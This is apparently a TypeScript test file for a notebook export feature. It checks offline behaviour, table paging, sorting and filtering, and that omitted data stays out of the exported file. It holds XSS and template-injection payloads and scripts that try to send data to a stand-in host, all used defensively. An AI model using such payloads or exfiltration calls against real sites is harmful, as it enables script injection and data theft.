/** A notebook that was exported, opened from disk with no network at all. */
import { readFile } from "node:fs/promises";
import { homedir } from "node:os";

import type { Page } from "playwright-core";
import { expect, test } from "vitest";

import type { AssetKey } from "#protocol/ids.ts";

import { blockIn, exported, opened, tableIn, workspaceWith } from "./exported.ts";

/** Texts that would do something if they were ever more than text. */
const HOSTILE = [
  "<img src=x onerror=\"document.title='run'\">",
  "</script><script>document.title='run'</script>",
  "<!-- <script>",
  "{{7*7}} ${7*7} #{7*7}",
  "[x](javascript:document.title='run')",
  "=1+1",
  "a\u2028b\u202Ec",
];
const quoted = (text: string): string => `'${text.replaceAll("'", "''")}'`;
/** As SQL writes them: a \${ of the notebook would be a value of its own. */
const LIST = HOSTILE.map((text) => quoted(text).replaceAll("${", () => "$' || '{")).join(", ");

const NOTEBOOK = `# A </title><script>document.title='run'</script> notebook

Below \${most} there are \${hits.numRows}; the first is \${hits.get(0).hostile}.

\`\`\`sql kept asset
select n::integer as n, 'name ' || n as name, [${LIST}][1 + n % ${HOSTILE.length}] as hostile,
  'left ' || 'out' as secret
from range(70000) t(n)
\`\`\`

\`\`\`sql unmade asset
select 1 as one
\`\`\`

\`\`\`input most
Inputs.range([0, 100], {step: 1, value: 40})
\`\`\`

\`\`\`sql hits
select n, name, hostile from kept where n < \${most}
\`\`\`

\`\`\`js bars
Plot.plot({marks: [Plot.dot(hits, {x: "n", y: "hostile", title: "hostile"})]})
\`\`\`

\`\`\`ts typed
const doubled: number = most * 2;
display(\`twice is \${doubled}\`);
\`\`\`

\`\`\`html framed
<p>framed \${hits.get(1).hostile}</p>
\`\`\`

\`\`\`sql broken
select nothing from kept
\`\`\`
`;

/** The rows of a cell's table that are in view, as text. */
async function rowsSeen(page: Page, cell: string): Promise<string[]> {
  return page.locator(`#cell-${cell} .grid-rows [role=row]`).allInnerTexts();
}

test("an exported notebook asks nothing of any network, and is alive where it needs no kernel", async () => {
  const workspace = await workspaceWith(NOTEBOOK, ["kept"]);
  const file = await exported(workspace);
  const { page, requests, problems, complaints } = await opened(file.path);

  // Every figure shows.
  await page.locator("#cell-bars svg").first().waitFor();
  await page.locator("#cell-framed iframe").waitFor();
  await page.getByText("twice is 80").waitFor();
  await page.locator("#cell-kept [role=grid]").waitFor();
  expect(await page.locator("#cell-unmade").innerText()).toContain("had not been made");
  expect(await page.locator("#cell-broken").innerText()).toMatch(/nothing/);
  expect(await page.locator("#cell-hits").innerText()).toContain("needs Karyon to change");

  // Tables page, sort and filter.
  const kept = page.locator("#cell-kept");
  await kept.getByLabel("go to a row, rsID, gene or place").fill("65000");
  await page.keyboard.press("Enter");
  await kept.getByText("name 64999", { exact: true }).waitFor();
  await page.keyboard.press("s");
  await kept.getByText("name 0", { exact: true }).waitFor();
  await page.keyboard.press("s");
  await kept.getByText("name 69999", { exact: true }).waitFor();
  await kept.getByLabel("search in text columns").fill("name 12345");
  await page.keyboard.press("Enter");
  // Seen, and told to a screen reader.
  await kept.getByText("1 of 70,000", { exact: false }).first().waitFor();
  expect(await rowsSeen(page, "kept")).toHaveLength(1);

  // What is looked at can be taken away.
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    kept.getByRole("button", { name: "Save as CSV" }).click(),
  ]);
  expect(download.suggestedFilename()).toBe("rows-of-kept.csv");
  expect(await readFile(await download.path(), "utf8")).toMatch(
    /^n,name,hostile,secret\r\n12345,name 12345,/,
  );

  // An input moves what is computed in the page; what a kernel gave stays, and says so.
  await page.locator("#cell-most input[type=range]").fill("50");
  await page.getByText("twice is 100").waitFor();
  await page.getByText("Not of what is chosen above").waitFor();
  expect(await page.locator("#cell-hits [role=grid]").getAttribute("aria-rowcount")).toBe("41");

  // A mark opens how a figure was made.
  await kept.getByRole("button", { name: "how kept was made" }).click();
  const made = await page.getByRole("dialog").innerText();
  expect(made).toContain(file.notebook.provenance["kept"]?.mark);
  await page.keyboard.press("Escape");

  expect(requests).toEqual([]);
  expect(problems).toEqual([]);
  expect(complaints).toEqual([]);
});

test("hostile values are text in tables, plots, prose and frames", async () => {
  const workspace = await workspaceWith(NOTEBOOK, ["kept"]);
  const { page, problems } = await opened((await exported(workspace)).path);
  await page.locator("#cell-bars svg").first().waitFor();
  await page.locator("#cell-framed iframe").waitFor();
  const shown = (await rowsSeen(page, "kept")).join("\n");
  for (const text of HOSTILE.slice(0, 6)) expect(shown).toContain(text);
  // What would reorder the text around it is written out.
  expect(shown).toContain("\uFFFDc");
  expect(await page.locator(".prose-value").allInnerTexts()).toContain(HOSTILE[0]);
  expect(await page.locator("#cell-bars svg text").allTextContents()).toContain(HOSTILE[0]);
  const frame = page.frameLocator("#cell-framed iframe");
  await frame.getByText("framed </script>").waitFor();
  expect(await page.title()).toBe("A </title><script>document.title='run'</script> notebook");
  expect(await page.locator("img").count()).toBe(0);
  expect(problems).toEqual([]);
});

test("what is left out is not in the file", async () => {
  const workspace = await workspaceWith(NOTEBOOK, ["kept"]);
  const file = await exported(
    workspace,
    "--cells",
    "kept,most,hits",
    "--columns",
    "kept=n,name",
    "--rows",
    "100",
    "--code",
    "left-out",
  );
  const kept = file.notebook.tables["kept" as AssetKey];
  expect(kept).toMatchObject({ columns: ["n", "name"], rows: 100, of: 70_000, without: 2 });
  const table = tableIn(file.text, kept);
  expect(table.numRows).toBe(100);
  expect(table.schema.fields.map(({ name }) => name)).toEqual(["n", "name"]);
  const everything = [
    file.text,
    ...(kept?.blocks ?? []).map(({ id }) => blockIn(file.text, id).toString("latin1")),
  ];
  for (const text of everything) {
    for (const left of [
      "left out",
      "secret",
      "name 100",
      "from range",
      "unmade",
      "bars",
      workspace,
      homedir(),
    ]) {
      // The script of the file has words of its own.
      const own = text
        .replace(/<script id="karyon-runtime">[^]*?<\/script>/, "")
        .replace(/<style>[^]*?<\/style>/, "");
      expect(own.includes(left), left).toBe(false);
    }
  }
});

test("what columns were made from is not in the file: it may be what is left out", async () => {
  const workspace = await workspaceWith(
    `# Columns

\`\`\`sql base asset
select 'word ' || n as hidden_word from range(3) t(n)
\`\`\`

\`\`\`sql shown asset
select upper(hidden_word) as word from base where hidden_word <> ''
\`\`\`
`,
    ["shown"],
  );
  const file = await exported(workspace, "--cells", "shown", "--code", "left-out");
  expect(tableIn(file.text, file.notebook.tables["shown" as AssetKey]).numRows).toBe(3);
  expect(file.text.includes("hidden_word")).toBe(false);
});

test("a script carries nothing off by going elsewhere", async () => {
  const away = "http://127.0.0.1:9/?secret";
  const leaves = [
    `location.href = "${away}1"`,
    `location.replace("${away}2")`,
    `Object.assign(document.createElement("a"), {href: "${away}3"}).click()`,
    `Object.assign(document.createElement("a"), {href: "${away}4", download: "x"}).click()`,
    `fetch("${away}5").catch(() => {})`,
    `new Image().src = "${away}6"`,
    `navigator.sendBeacon("${away}7")`,
  ];
  const cells = leaves.map((code) => `\`\`\`js\n${code};\n\`\`\`\n`).join("\n");
  const workspace = await workspaceWith(
    `# Leaves\n\n${cells}\n\`\`\`js\ndisplay("all tried");\n\`\`\`\n`,
    [],
  );
  const file = await exported(workspace);
  const { page, requests } = await opened(file.path);
  await page.getByText("all tried", { exact: true }).waitFor();
  // Whatever was on its way has had its turn.
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0))));
  expect(requests).toEqual([]);
  expect(page.url()).toBe(`file://${file.path}`);
});
